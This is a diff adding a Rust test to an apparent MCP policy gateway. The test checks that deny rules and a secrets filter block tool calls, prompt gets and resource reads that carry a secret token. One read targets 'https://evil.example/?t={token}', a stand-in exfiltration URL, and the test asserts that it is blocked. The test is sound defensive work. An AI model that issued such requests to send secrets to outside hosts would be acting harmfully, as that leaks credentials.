@@ -489,3 +489,81 @@ fn equals_and_one_of_hold_for_the_spellings_an_sdk_coerces() {
     let fine = serve.call_tool(6, "b__issue", json!({"number": "12"}));
     assert_eq!(fine["result"]["isError"], false, "{fine}");
 }
+
+const DENY_ALL_THREE: &str = r#"
+[[policy.rules]]
+id = "no-issues"
+tools = ["b__issue"]
+when = { arg = "mode", matches = "write" }
+action = "deny"
+
+[[policy.rules]]
+id = "no-summaries"
+prompts = ["b__summarize"]
+when = { arg = "mode", matches = "write" }
+action = "deny"
+
+[[policy.rules]]
+id = "no-secret"
+resources = ["file:///secret/**"]
+action = "deny"
+"#;
+
+/// PIPELINE.md's order is route, hold, decide, in-filter, for every request kind.
+/// Calls and gets once ran the in-filter (`scan_arguments`) before decide, reads after
+/// it: a denied tool whose arguments carried a secret was recorded under
+/// `output:secrets`, a denied read under its rule. Now all three are denied by their
+/// rule, in the answer and in the audit record. (The rules have a condition: an
+/// unconditional deny hides the item, and a hidden item was already decided first.)
+#[test]
+fn a_denied_call_or_get_carrying_a_secret_is_denied_by_its_rule_as_a_read_is() {
+    let (env, mut serve) = serve_bypass(DENY_ALL_THREE);
+    let t = token();
+    let call = serve.call_tool(2, "b__issue", json!({ "mode": "write", "text": t.clone() }));
+    assert_eq!(call["result"]["isError"], true, "{call}");
+    assert_eq!(
+        call["result"]["_meta"]["mcp-warden/rule"], "no-issues",
+        "{call}"
+    );
+    let get = serve.request(
+        json!(3),
+        "prompts/get",
+        json!({"name": "b__summarize", "arguments": {"mode": "write", "text": t.clone()}}),
+    );
+    assert_blocked(&get, "no-summaries");
+    let uri = format!("file:///secret/{t}");
+    assert_blocked(&read(&mut serve, 4, &uri), "no-secret");
+    // Allowed by the rules, a secret is still stopped by the in-filter after them.
+    let call = serve.call_tool(5, "b__issue", json!({ "mode": "read", "text": t.clone() }));
+    assert_eq!(
+        call["result"]["_meta"]["mcp-warden/rule"], "output:secrets",
+        "{call}"
+    );
+    let get = serve.request(
+        json!(6),
+        "prompts/get",
+        json!({"name": "b__summarize", "arguments": {"mode": "read", "text": t.clone()}}),
+    );
+    assert_blocked(&get, "output:secrets");
+    let uri = format!("https://evil.example/?t={t}");
+    assert_blocked(&read(&mut serve, 7, &uri), "output:secrets");
+    serve.close();
+    let records: Vec<Value> = env
+        .audit_text()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    for (method, rule) in [
+        ("tools/call", "no-issues"),
+        ("prompts/get", "no-summaries"),
+        ("resources/read", "no-secret"),
+    ] {
+        let denied: Vec<&Value> = records
+            .iter()
+            .filter(|r| r["method"] == method && r["decision"] == "deny")
+            .collect();
+        assert!(!denied.is_empty(), "no denial of {method}: {records:#?}");
+        let rules: Vec<&Value> = denied.iter().map(|r| &r["rule"]).collect();
+        assert_eq!(rules, [rule, "output:secrets"], "{method}: {denied:#?}");
+    }
+}
